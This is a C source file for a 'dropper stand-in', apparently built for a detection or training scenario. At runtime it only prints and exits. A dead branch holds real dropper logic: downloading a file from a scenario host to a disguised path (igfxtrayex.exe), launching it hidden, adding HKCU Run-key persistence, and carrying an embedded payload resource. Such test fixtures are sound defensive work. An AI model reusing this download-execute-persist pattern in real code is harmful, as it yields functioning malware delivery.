/*
** dropper.c -- the scenario's dropper stand-in (scenarios/gen.py builds it
** with mingw-w64).  It prints a line and exits.  The download, command
** shell and Run-key calls sit behind a branch that never runs (argc > 1000)
** so their imports and strings are present, as in the real thing; the
** implant rides along as RCDATA.  scenario.h (written by gen.py) holds the
** scenario's addresses.
*/
#include <windows.h>
#include <urlmon.h>
#include <stdio.h>
#include <wchar.h>
#include "res.h"
#include "scenario.h"

static const wchar_t url[] = L"http://" SC_DROP_HOST L"/img/update.gif";
static const wchar_t msg_ko[] = L"설치 프로그램을 초기화하는 중입니다";

static void never_called(void) {
  wchar_t cmd[512];
  HKEY key;
  STARTUPINFOW si;
  PROCESS_INFORMATION pi;
  const wchar_t *dst = L"C:\\ProgramData\\igfxtrayex.exe";
  URLDownloadToFileW(NULL, url, dst, 0, NULL);
  swprintf(cmd, 512, L"cmd.exe /c start \"\" \"%ls\"", dst);
  memset(&si, 0, sizeof si);
  si.cb = sizeof si;
  CreateProcessW(NULL, cmd, NULL, NULL, FALSE, CREATE_NO_WINDOW, NULL, NULL, &si, &pi);
  RegCreateKeyExW(HKEY_CURRENT_USER, L"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0,
                  NULL, 0, KEY_SET_VALUE, NULL, &key, NULL);
  RegSetValueExW(key, L"igfxtrayex", 0, REG_SZ, (const BYTE *)dst,
                 (DWORD)((wcslen(dst) + 1) * sizeof(wchar_t)));
  RegCloseKey(key);
  FindResourceW(NULL, MAKEINTRESOURCEW(IDR_PAYLOAD), (LPCWSTR)RT_RCDATA);
}

int main(int argc, char **argv) {
  (void)argv;
  if (argc > 1000) {
    never_called();
    wprintf(L"%ls\n", msg_ko);
  }
  puts("tells scenario: dropper stand-in, prints and exits");
  return 0;
}
